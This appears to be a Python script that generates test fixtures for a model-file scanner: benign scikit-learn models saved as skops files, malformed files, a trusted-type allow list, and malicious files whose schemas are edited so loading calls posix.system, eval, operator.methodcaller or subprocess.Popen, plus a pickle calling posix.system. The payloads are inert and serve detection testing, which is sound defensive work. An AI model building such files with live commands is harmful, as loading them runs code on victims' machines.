#!/usr/bin/env python3
"""Writes the skops fixtures under testdata/skops/ and the trusted-type list signatures/skops.toml.

A `.skops` file is a zip of `schema.json` (a tree of nodes, each naming the `__loader__` skops
uses for it and the `__module__`/`__class__` it imports) plus `.npy` arrays and `.bin` bytes.
`skops.io.load` refuses types outside its default trusted set unless the caller trusts them
(`trusted=get_untrusted_types(file=...)` is the common idiom, which trusts whatever the file asks).

* benign/: real files written by `skops.io.dump` (skops 0.16.0, scikit-learn 1.9.1, numpy
  2.4.6), re-zipped with fixed timestamps and member names so re-running gives the same bytes.
* malicious/: a benign file whose schema.json was edited to make the loader call or return a
  dangerous callable (the payloads are inert: `os.system('true')`), one per bypass class:
  FunctionNode (a FunctionTransformer calling `posix.system`), ConstructorFromReduceNode
  (`builtins.eval(...)` at load), OperatorFuncNode (`operator.methodcaller('system', 'true')`,
  CVE-2025-54412 class), MethodNode (a bound method of a trusted-looking object, CVE-2025-54413
  class), ObjectNode of `subprocess.Popen`, NdArrayNode whose class is a callable, and a joblib
  pickle named `.skops` (skops' `Card.get_model` fell back to joblib for non-zip files,
  CVE-2025-54886).
* malformed/: schema.json that is not JSON, a node without `__class__`, an unknown loader, a
  protocol newer than skops knows.
* signatures/skops.toml: the types each skops node loader trusts by default, read from skops'
  own lists (`skops.io._trusted_types`) in the installed versions above.

Usage: python -P testdata/generate/skops.py   (from the repository root)
Needs: pip install skops==0.16.0 scikit-learn==1.9.1
"""

import io
import json
import zipfile
from pathlib import Path

import numpy as np
import skops
import sklearn
import skops.io as sio
from skops.io import _trusted_types as tt
from skops.io._utils import get_type_paths
from sklearn.ensemble import RandomForestClassifier
from sklearn.linear_model import LogisticRegression
from sklearn.pipeline import make_pipeline
from sklearn.preprocessing import FunctionTransformer, StandardScaler

ROOT = Path(__file__).resolve().parent.parent
REPO = ROOT.parent
OUT = ROOT / "skops"
FIXED = (2026, 1, 1, 0, 0, 0)
PICKLE = b"\x80\x04cposix\nsystem\n(X\x04\x00\x00\x00truetR."

X = np.random.RandomState(0).rand(30, 3)
Y = (X[:, 0] > 0.5).astype(int)


def dumped(obj):
    """(schema dict, {member: bytes}) of what skops.io.dumps writes for obj."""
    z = zipfile.ZipFile(io.BytesIO(sio.dumps(obj)))
    members = {n: z.read(n) for n in z.namelist() if n != "schema.json"}
    return json.loads(z.read("schema.json")), members


def write(kind, name, schema, members, raw_schema=None):
    """A stored zip with sorted member names renamed to stable ones, schema.json last."""
    text = raw_schema if raw_schema is not None else json.dumps(schema, indent=2)
    # Member names are object ids (memory addresses): renumber them in order of first mention.
    order = sorted(members, key=lambda n: (text.find(n) if n in text else len(text), members[n], n))
    renames = {old: f"{i:04d}{Path(old).suffix}" for i, old in enumerate(order)}
    for old, new in renames.items():
        text = text.replace(old, new)
    d = OUT / kind
    d.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(d / name, "w", zipfile.ZIP_STORED) as z:
        for old in order:
            z.writestr(zipfile.ZipInfo(renames[old], FIXED), members[old])
        z.writestr(zipfile.ZipInfo("schema.json", FIXED), text)


def strip_ids(node):
    """Drops `__id__` values (memory addresses, different every run) and renumbers them."""
    ids = {}

    def walk(o):
        if isinstance(o, dict):
            if "__id__" in o:
                o["__id__"] = ids.setdefault(o["__id__"], len(ids) + 1)
            for v in o.values():
                walk(v)
        elif isinstance(o, list):
            for v in o:
                walk(v)

    walk(node)
    return node


def json_node(value):
    return {"__class__": type(value).__name__, "__module__": "builtins", "__loader__": "JsonNode",
            "content": json.dumps(value), "is_json": True}


def tuple_node(*items):
    return {"__class__": "tuple", "__module__": "builtins", "__loader__": "TupleNode", "content": list(items)}


def find(node, pred):
    if isinstance(node, dict):
        if pred(node):
            return node
        for v in node.values():
            r = find(v, pred)
            if r is not None:
                return r
    elif isinstance(node, list):
        for v in node:
            r = find(v, pred)
            if r is not None:
                return r
    return None


def function_transformer(module, name):
    """A fitted FunctionTransformer whose `func` is the FunctionNode module.name."""
    schema, members = dumped(FunctionTransformer(np.log1p).fit(X))
    fn = find(schema, lambda n: n.get("__loader__") == "FunctionNode")
    fn["__module__"], fn["__class__"] = module, name
    return strip_ids(schema), members


def at_attribute(obj, attr, node):
    """The dump of obj with its attribute attr replaced by node."""
    schema, members = dumped(obj)
    schema["content"]["content"][attr] = node
    return strip_ids(schema), members


def benign():
    pipe = make_pipeline(StandardScaler(), LogisticRegression()).fit(X, Y)
    s, m = dumped(pipe)
    write("benign", "pipeline.skops", strip_ids(s), m)
    forest = RandomForestClassifier(n_estimators=2, max_depth=2, random_state=0).fit(X, Y)
    s, m = dumped(forest)
    write("benign", "random-forest.skops", strip_ids(s), m)
    s, m = dumped(FunctionTransformer(np.log1p).fit(X))
    write("benign", "function-transformer-log1p.skops", strip_ids(s), m)


def payloads(module="posix", name="system"):
    """(file name, schema, members) of every malicious case, calling module.name."""
    scaler = StandardScaler().fit(X)
    out = []
    s, m = function_transformer(module, name)
    out.append(("function-node-system.skops", s, m))
    # ConstructorFromReduceNode calls module.class(*args) while loading.
    ctor = {"__class__": name, "__module__": module, "__loader__": "ConstructorFromReduceNode",
            "content": tuple_node(json_node("true"))}
    s, m = at_attribute(scaler, "copy", ctor)
    out.append(("constructor-from-reduce.skops", s, m))
    # OperatorFuncNode: methodcaller(name, 'true') is applied by whoever calls it; here it is
    # also the attribute a trusted estimator keeps.
    op = {"__class__": "methodcaller", "__module__": "operator", "__loader__": "OperatorFuncNode",
          "attrs": tuple_node(json_node(name), json_node("true"))}
    s, m = at_attribute(scaler, "copy", op)
    out.append(("operator-methodcaller.skops", s, m))
    # MethodNode: a bound method of an object of a trusted-looking type.
    meth = {"__class__": "StandardScaler", "__module__": "sklearn.preprocessing._data",
            "__loader__": "MethodNode",
            "content": {"func": "__reduce_ex__", "obj": dumped(StandardScaler())[0]}}
    s, m = at_attribute(scaler, "copy", meth)
    out.append(("method-node.skops", s, m))
    # ObjectNode of an arbitrary class: cls.__new__ then __setstate__/__dict__.
    obj = {"__class__": "Popen", "__module__": "subprocess", "__loader__": "ObjectNode"}
    s, m = at_attribute(scaler, "copy", obj)
    out.append(("object-node-popen.skops", s, m))
    # NdArrayNode whose class is not numpy.ndarray: the loader calls module.class(array).
    s, m = dumped(scaler)
    s = strip_ids(s)
    arr = find(s, lambda n: n.get("__loader__") == "NdArrayNode")
    arr["__module__"], arr["__class__"] = module, name
    out.append(("ndarray-class-call.skops", s, m))
    return out


def malicious():
    for name, s, m in payloads():
        write("malicious", name, s, m)
    d = OUT / "malicious"
    (d / "pickle-named-skops.skops").write_bytes(PICKLE)


def malformed():
    s, m = dumped(StandardScaler().fit(X))
    s = strip_ids(s)
    write("malformed", "schema-not-json.skops", None, m, raw_schema='{"__class__": "StandardScaler", "__loader__": ')
    bad = json.loads(json.dumps(s))
    del bad["__class__"]
    write("malformed", "node-without-class.skops", bad, m)
    bad = json.loads(json.dumps(s))
    bad["content"]["__loader__"] = "PickleNode"
    write("malformed", "unknown-loader.skops", bad, m)
    bad = json.loads(json.dumps(s))
    bad["protocol"] = 99
    write("malformed", "protocol-too-new.skops", bad, m)


def signatures():
    """signatures/skops.toml: the default trusted types of each node loader."""
    groups = {
        "DictNode": get_type_paths([dict, "collections.OrderedDict"]),
        "DefaultDictNode": ["collections.defaultdict"],
        "ListNode": get_type_paths([list]),
        "SetNode": get_type_paths([set]),
        "TupleNode": get_type_paths([tuple]),
        "BytesNode": get_type_paths([bytes]),
        "BytearrayNode": get_type_paths([bytearray]),
        "FunctionNode": tt.SCIPY_UFUNC_TYPE_NAMES + tt.NUMPY_UFUNC_TYPE_NAMES,
        "TypeNode": tt.PRIMITIVE_TYPE_NAMES + tt.CONTAINER_TYPE_NAMES + tt.NUMPY_DTYPE_TYPE_NAMES,
        "ObjectNode": tt.SKLEARN_ESTIMATOR_TYPE_NAMES + tt.SKLEARN_INTERNAL_TYPE_NAMES,
        "NdArrayNode": get_type_paths([np.ndarray]) + tt.NUMPY_DTYPE_TYPE_NAMES,
        "MaskedArrayNode": get_type_paths([np.ma.MaskedArray]),
        "RandomStateNode": get_type_paths([np.random.RandomState]),
        "RandomGeneratorNode": get_type_paths([np.random.Generator]),
        "RandomGeneratorNode.bit_generator": tt.NUMPY_RANDOM_BIT_GENERATOR_TYPE_NAMES,
    }
    from skops.io import _scipy, _sklearn
    groups["SparseMatrixNode"] = get_type_paths([_scipy.spmatrix] + ([_scipy._SPARRAY] if _scipy._SPARRAY is not None else []))
    groups["LossNode"] = [x.__module__ + "." + x.__name__ for x in _sklearn.ALLOWED_LOSSES]
    lines = [
        "# skops default trusted types, per node loader (written by testdata/generate/skops.py from",
        f"# skops {skops.__version__}, scikit-learn {sklearn.__version__}, numpy {np.__version__}: skops.io._trusted_types",
        "# and the defaults each Node class passes to `_get_trusted`).",
        "#",
        "# kind = \"skops-trusted\": module is the node loader (`__loader__` in schema.json), name the",
        "# fully qualified type (`__module__` + \".\" + `__class__`) that loader accepts without the caller",
        "# trusting it. `RandomGeneratorNode.bit_generator` lists the bit generator names a",
        "# RandomGeneratorNode may name. Loaders with no entry (ConstructorFromReduceNode, MethodNode,",
        "# OperatorFuncNode, PartialNode, TreeNode, QuantileForestNode, DTypeNode) trust nothing by",
        "# default. A site can add its own allow entries with --signatures.",
        "[meta]",
        'area = "skops"',
        'description = "Types skops.io.load trusts by default, per node loader."',
        "",
    ]
    for loader, names in groups.items():
        for n in sorted(set(names)):
            lines += ["[[entry]]", 'kind = "skops-trusted"', f'module = "{loader}"', f'name = "{n}"',
                      'action = "allow"', f'reason = "trusted by default by skops {skops.__version__} ({loader})"', ""]
    (REPO / "signatures" / "skops.toml").write_text("\n".join(lines))


if __name__ == "__main__":
    benign()
    malicious()
    malformed()
    signatures()
